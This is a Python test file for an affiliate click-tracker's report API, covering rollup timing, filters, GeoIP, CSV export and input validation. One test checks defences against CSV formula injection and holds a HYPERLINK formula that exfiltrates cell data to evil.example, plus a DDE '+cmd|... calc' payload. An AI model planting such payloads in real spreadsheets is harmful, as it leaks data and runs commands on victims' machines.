"""The report API through the real app, with the real background rollup job."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from collections.abc import AsyncIterator
from datetime import datetime
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest

from clickback.config import Settings
from clickback.domain.ports import Store
from clickback.web.app import ClickbackApp
from clickback.web.present import csv_cell
from tests.conftest import ADMIN, AUTH, click, make_offer
from tests.mmdb import write_mmdb
from tests.web.test_ui import csrf_of

BROWSER = {"user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"}


@pytest.fixture
async def live(store: Store) -> AsyncIterator[httpx.AsyncClient]:
    """The app with its rollup job running as `serve` runs it (default settle)."""
    app = ClickbackApp(
        Settings(database_url="unused", admin_token=ADMIN, rollup_interval=0.2), store
    )
    await app.startup()
    transport = httpx.ASGITransport(app=app, client=("81.2.69.160", 5555))
    async with httpx.AsyncClient(
        transport=transport, base_url="http://track.test", headers=BROWSER
    ) as c:
        yield c
    await app.shutdown()


async def test_a_click_and_its_conversion_are_reported_within_5_seconds(
    live: httpx.AsyncClient,
) -> None:
    s = await make_offer(live, payout_type="cpa", payout_amount="2.50")
    refid = await click(live, s["link"], "?sub1=spring")
    r = await live.get(
        "/postback", params={"refid": refid, "orderamount": "10", "ordernumber": "1"}
    )
    assert r.json()["status"] == "accepted"
    done = time.monotonic()
    params = {"group_by": "offer,sub1,country,device,browser", "tz": "Europe/Berlin"}
    while True:
        report = (await live.get("/api/v1/reports", params=params, headers=AUTH)).json()
        if report["totals"]["conversions"] == 1 and report["totals"]["clicks"] == 1:
            break
        assert time.monotonic() - done < 5, report
        await asyncio.sleep(0.1)
    # complete until within the 5 s bound of the time it was asked (what the job holds
    # back meanwhile, a status change of the screening, say, may still wait)
    complete = datetime.fromisoformat(report["complete_until"])
    assert 0 <= time.time() - complete.timestamp() < 5, report["complete_until"]
    assert not [n for n in report["notes"] if "not in this report yet" in n]
    [row] = report["rows"]
    assert row["offer"] == s["offer"]["id"] and row["offer_name"] == "Offer"
    assert (row["sub1"], row["country"], row["device"], row["browser"]) == (
        "spring",
        "GB",
        "desktop",
        "Firefox",
    )
    assert (row["unique_clicks"], row["commission"], row["payable"]) == (1, "2.50", "2.50")
    assert (row["conversion_rate"], row["epc"], row["revenue"]) == ("100.00", "2.5000", None)


async def test_a_lead_of_zero_in_a_currency_without_a_rate_is_reported_payable(
    live: httpx.AsyncClient,
) -> None:
    """Zero is zero in any currency: its commission (in the base currency) is payable
    at once, not held back until a rate for the order's currency comes."""
    s = await make_offer(live, payout_type="cpa", payout_amount="2.50")
    refid = await click(live, s["link"])
    params = {"refid": refid, "orderamount": "0", "ordernumber": "L1", "currency": "CHF"}
    assert (await live.get("/postback", params=params)).json()["status"] == "accepted"
    deadline = time.monotonic() + 5
    while (report := (await live.get("/api/v1/reports", headers=AUTH)).json())["totals"][
        "conversions"
    ] != 1:
        assert time.monotonic() < deadline, report
        await asyncio.sleep(0.1)
    totals = report["totals"]
    assert (totals["commission"], totals["payable"], totals["sale_amount"]) == (
        "2.50",
        "2.50",
        "0.00",
    ), totals
    assert not [n for n in report["notes"] if "rate" in n], report["notes"]


async def test_an_empty_sub_id_filter_reports_the_clicks_without_one(
    live: httpx.AsyncClient,
) -> None:
    s = await make_offer(live)
    for query in ("?sub1=spring", "?sub1=", ""):
        await click(live, s["link"], query)
    done = time.monotonic()
    while (await live.get("/api/v1/reports", headers=AUTH)).json()["totals"]["clicks"] < 3:
        assert time.monotonic() - done < 5
        await asyncio.sleep(0.1)
    r = await live.get("/api/v1/reports?group_by=sub1&sub1=", headers=AUTH)
    assert [(row["sub1"], row["clicks"]) for row in r.json()["rows"]] == [("", 2)]
    r = await live.get("/api/v1/reports?group_by=sub1&sub1=spring&sub1=", headers=AUTH)
    assert sorted((row["sub1"], row["clicks"]) for row in r.json()["rows"]) == [
        ("", 2),
        ("spring", 1),
    ]


async def test_countries_from_a_named_maxmind_file_and_revenue_end_to_end(
    store: Store, tmp_path: Path
) -> None:
    settings = Settings(
        database_url="unused",
        admin_token=ADMIN,
        rollup_interval=0.2,
        geoip_mmdb=str(write_mmdb(tmp_path / "countries.mmdb")),
    )
    app = ClickbackApp(settings, store)
    await app.startup()
    transport = httpx.ASGITransport(app=app, client=("81.2.69.160", 5555))
    try:
        async with httpx.AsyncClient(
            transport=transport, base_url="http://track.test", headers=BROWSER
        ) as live:
            s = await make_offer(live, revenue_type="cpa", revenue_amount="7.25")
            refid = await click(live, s["link"])
            params = {"refid": refid, "orderamount": "10", "ordernumber": "1"}
            assert (await live.get("/postback", params=params)).json()["status"] == "accepted"
            deadline = time.monotonic() + 10
            while True:
                report = (
                    await live.get("/api/v1/reports", params={"group_by": "country"}, headers=AUTH)
                ).json()
                if report["totals"]["clicks"] and report["totals"]["conversions"]:
                    break
                assert time.monotonic() < deadline, report
                await asyncio.sleep(0.1)
    finally:
        await app.shutdown()
    [row] = report["rows"]
    assert row["country"] == "SE"  # the file's answer; geoip2fast's would be GB
    assert (row["commission"], row["revenue"], row["profit"]) == ("5.00", "7.25", "2.25")


async def test_report_as_csv_and_its_refusals(client: httpx.AsyncClient) -> None:
    await make_offer(client)
    r = await client.get(
        "/api/v1/reports/export",
        params={"group_by": "day,offer", "tz": "Asia/Kolkata"},
        headers=AUTH,
    )
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    header = next(csv.reader(io.StringIO(r.text)))
    assert header[:3] == ["day", "offer", "offer_name"] and "payable" in header
    for params, code in [
        ({"group_by": "planet"}, "invalid_group_by"),
        ({"group_by": "day,week"}, "invalid_group_by"),
        ({"tz": "Mars/Olympus"}, "invalid_timezone"),
        ({"from": "yesterday"}, "invalid_time"),
        ({"from": "2026-03-02", "to": "2026-03-01"}, "invalid_range"),
        ({"by": "refund"}, "invalid_report"),
        ({"offer": "one"}, "invalid_filter"),
        ({"offer": ""}, "invalid_filter"),  # every row has an offer
        ({"affiliate": "\u00b3"}, "invalid_filter"),  # a digit to str.isdigit, not to int()
        ({"limit": "\u0662"}, "invalid_limit"),
        ({"limit": "9" * 5000}, "invalid_limit"),  # longer than int() reads: not a 500
        ({"colour": "red"}, "unknown_filter"),
        ({"sort": "weather"}, "invalid_sort"),
    ]:
        r = await client.get("/api/v1/reports", params=params, headers=AUTH)
        assert r.status_code == 400 and r.json()["errors"][0]["code"] == code, (params, r.text)
    r = await client.get("/api/v1/reports/export", params={"limit": "9" * 5000}, headers=AUTH)
    assert r.status_code == 400 and r.json()["errors"][0]["code"] == "invalid_limit"
    assert (await client.get("/api/v1/reports")).status_code == 401
    doc = (await client.get("/api/v1/openapi.json")).json()
    names = {p["name"] for p in doc["paths"]["/api/v1/reports"]["get"]["parameters"]}
    assert {"group_by", "from", "to", "tz", "by", "offer", "sub1", "country"} <= names


async def test_a_read_token_may_read_reports(client: httpx.AsyncClient) -> None:
    r = await client.post("/api/v1/tokens", json={"role": "read"}, headers=AUTH)
    token = r.json()["token"]
    r = await client.get(
        "/api/v1/reports",
        params={"group_by": "", "from": "2026-01-01", "to": "2026-01-31"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert r.status_code == 200, r.text
    assert r.json()["rows"] == [] and r.json()["totals"]["clicks"] == 0


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"open")'


async def test_no_csv_export_holds_a_live_formula(live: httpx.AsyncClient) -> None:
    """Sub-IDs, User-Agents, referers, coupons and order numbers come from outside: a
    text cell that a spreadsheet would run as a formula is written with a `'` before
    it, in the report's CSV, the dashboard's and the clicks' and conversions' exports;
    a plain number (a sub-ID `-5`, an amount) is written as it is."""
    s = await make_offer(live)
    query = "?" + urlencode({"sub1": FORMULA, "sub2": "-5", "sub3": "@SUM(A1)", "sub4": "+3"})
    r = await live.get(
        f"/c/{s['link']['code']}{query}",
        headers={"user-agent": "-2+3", "referer": "+cmd|' /C calc'!A0"},
    )
    refid = parse_qs(urlsplit(r.headers["location"]).query)["refid"][0]
    postback = {"refid": refid, "orderamount": "10", "ordernumber": "=1+1", "coupon": "-1+1"}
    assert (await live.get("/postback", params=postback)).json()["status"] == "accepted"
    done = time.monotonic()
    while True:
        totals = (await live.get("/api/v1/reports", headers=AUTH)).json()["totals"]
        if totals["clicks"] and totals["conversions"]:
            break
        assert time.monotonic() - done < 5
        await asyncio.sleep(0.1)
    params = {"group_by": "sub1,sub2,sub3,sub4"}
    report = await live.get("/api/v1/reports/export", params=params, headers=AUTH)
    [row] = list(csv.DictReader(io.StringIO(report.text)))
    assert (row["sub1"], row["sub2"], row["sub3"], row["sub4"]) == (
        "'" + FORMULA,
        "-5",
        "'@SUM(A1)",
        "+3",
    )
    assert (row["clicks"], row["commission"]) == ("1", "5.00")
    form = await live.get("/ui/login")
    await live.post("/ui/login", data={"token": ADMIN, "csrf": csrf_of(form.text)})
    dashboard = await live.get("/ui/reports.csv", params={"group_by": "sub1"})
    [row] = list(csv.DictReader(io.StringIO(dashboard.text)))
    assert row["sub1"] == "'" + FORMULA
    clicks = await live.get("/api/v1/clicks/export", headers=AUTH)
    [row] = list(csv.DictReader(io.StringIO(clicks.text)))
    assert (row["refid"], row["sub1"], row["sub2"], row["user_agent"], row["referer"]) == (
        refid,  # the tracker's own (it may start with `-`): written as it is
        "'" + FORMULA,
        "-5",
        "'-2+3",
        "'+cmd|' /C calc'!A0",
    )
    conversions = await live.get("/api/v1/conversions/export", headers=AUTH)
    [row] = list(csv.DictReader(io.StringIO(conversions.text)))
    assert (row["ordernumber"], row["coupon"], row["sub1"]) == ("'=1+1", "'-1+1", "'" + FORMULA)
    assert row["refid"] == row["click_id"] == refid
    assert (row["orderamount"], row["commission"]) == ("10.00", "5.00")


def test_the_trackers_own_columns_are_written_as_they_are() -> None:
    """A RefID (`refid`, and a conversion's `click_id`, the same) may start with `-`: it
    is the tracker's own, never a visitor's text, and stays the RefID it is."""
    for column in ("refid", "click_id"):
        assert csv_cell("-P7_Jbkv", column) == "-P7_Jbkv"
    assert csv_cell("-P7_Jbkv", "sub1") == "'-P7_Jbkv"
